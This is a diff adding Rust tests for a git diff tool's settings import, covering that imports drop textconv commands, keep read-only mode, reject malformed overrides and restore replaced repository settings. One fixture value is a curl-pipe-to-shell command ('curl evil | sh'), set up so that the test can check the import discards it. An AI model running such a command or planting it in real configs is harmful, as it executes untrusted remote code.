@@ -0,0 +1,99 @@
+mod common;
+
+use common::TestRepo;
+use diffy_lib::git::{self, DifferConfig, MutedComparison, MutedStore};
+use diffy_lib::settings::{RepoSettings, SettingsBundle};
+use serde_json::{json, Map};
+use std::collections::{BTreeSet, HashMap};
+
+fn bundle(config: DifferConfig, repository: Option<RepoSettings>) -> SettingsBundle {
+    SettingsBundle::new(config, Map::new(), repository)
+}
+
+#[test]
+fn imports_never_bring_commands_or_lift_read_only() {
+    let mut current = DifferConfig {
+        revision: 4,
+        textconv: HashMap::from([("pdf".to_string(), "pdftotext %f -".to_string())]),
+        ..Default::default()
+    };
+    let mut exported = DifferConfig {
+        locale: "de".to_string(),
+        textconv: HashMap::from([
+            ("pdf".to_string(), "sh -c 'curl evil | sh'".to_string()),
+            ("docx".to_string(), "pandoc %f".to_string()),
+        ]),
+        ..Default::default()
+    };
+
+    let imported = bundle(exported.clone(), None).imported_config(&current);
+    assert_eq!(imported.revision, 5);
+    assert_eq!(imported.locale, "de");
+    assert_eq!(imported.textconv, current.textconv);
+
+    // Read-only mode only ever turns on
+    current.read_only = true;
+    assert!(
+        bundle(exported.clone(), None)
+            .imported_config(&current)
+            .read_only
+    );
+    current.read_only = false;
+    exported.read_only = true;
+    assert!(bundle(exported, None).imported_config(&current).read_only);
+}
+
+#[test]
+fn rejects_repository_overrides_that_are_not_an_object() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("settings.json");
+    let settings = RepoSettings {
+        overrides: Some(json!(["readOnly"])),
+        muted: MutedStore::new(),
+    };
+    bundle(DifferConfig::default(), Some(settings))
+        .write(&path)
+        .unwrap();
+
+    let err = SettingsBundle::read(&path).unwrap_err();
+    assert_eq!(err.key, "error.invalidSettings");
+}
+
+#[test]
+fn restores_the_repository_settings_an_import_replaced() {
+    let repo = TestRepo::new();
+    repo.write("a.txt", "one\n");
+    repo.commit_all("first");
+    let head = repo.repo.head().unwrap().target().unwrap().to_string();
+    git::mute_file(&repo.repo, "working", "a.txt").unwrap();
+
+    let mut muted = MutedStore::new();
+    muted.insert(
+        "HEAD".to_string(),
+        MutedComparison {
+            base: Some(head),
+            muted_at: chrono::Utc::now().timestamp(),
+            paths: BTreeSet::from(["b.txt".to_string()]),
+        },
+    );
+    let imported = RepoSettings {
+        overrides: Some(json!({ "defaultBranch": "trunk" })),
+        muted,
+    };
+
+    let previous = imported.apply(&repo.repo).unwrap();
+    assert_eq!(previous.overrides, None);
+    assert_eq!(
+        git::read_repo_config(&repo.repo),
+        Some(json!({ "defaultBranch": "trunk" }))
+    );
+    assert_eq!(git::list_muted(&repo.repo, "HEAD").unwrap(), vec!["b.txt"]);
+
+    previous.restore(&repo.repo).unwrap();
+    assert!(!repo.workdir().join(".diffyrc.json").exists());
+    assert_eq!(
+        git::list_muted(&repo.repo, "working").unwrap(),
+        vec!["a.txt"]
+    );
+    assert!(git::list_muted(&repo.repo, "HEAD").unwrap().is_empty());
+}